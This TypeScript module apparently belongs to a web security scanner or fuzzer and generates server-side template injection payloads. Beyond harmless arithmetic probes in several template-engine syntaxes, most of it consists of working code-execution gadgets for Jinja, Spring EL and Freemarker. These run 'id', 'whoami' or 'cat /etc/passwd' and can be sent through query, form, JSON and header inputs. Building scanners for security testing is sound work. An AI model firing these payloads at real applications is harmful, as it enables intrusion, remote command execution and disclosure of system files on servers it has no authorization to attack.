import type { Random } from '../../random.js';
import type { PayloadFamily } from '../payload-family.js';

// The delimiters of the common template engines: Jinja/Twig, JSP EL/Freemarker, ERB, Ruby/Thymeleaf.
const DELIMITERS: readonly ((expression: string) => string)[] = [
  (e) => `{{${e}}}`,
  (e) => `\${${e}}`,
  (e) => `<%= ${e} %>`,
  (e) => `#{${e}}`,
  (e) => `*{${e}}`,
];
const COMMANDS = ['id', 'whoami', 'cat /etc/passwd'];

const product = (r: Random) => `${r.int(7, 99)}*${r.int(7, 99)}`;

/** Server-side template injection: arithmetic probes per engine, and the gadgets that reach a shell. */
export const SSTI: PayloadFamily = {
  name: 'ssti',
  summary: 'server-side template injection: probes per engine, Jinja/Spring/Freemarker gadgets',
  templates: [
    (r) => r.pick(DELIMITERS)(product(r)),
    (r) => `{{self.__init__.__globals__.__builtins__.__import__('os').popen('${r.pick(COMMANDS)}').read()}}`,
    () => `{{''.__class__.__mro__[1].__subclasses__()}}`,
    (r) => `\${T(java.lang.Runtime).getRuntime().exec('${r.pick(COMMANDS)}')}`,
    (r) => `<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("${r.pick(COMMANDS)}")}`,
    (r) => `{{config.items()}}${r.pick(DELIMITERS)(product(r))}`,
  ],
  points: ['query', 'form', 'json', 'header'],
  encodings: ['plain', 'url'],
};
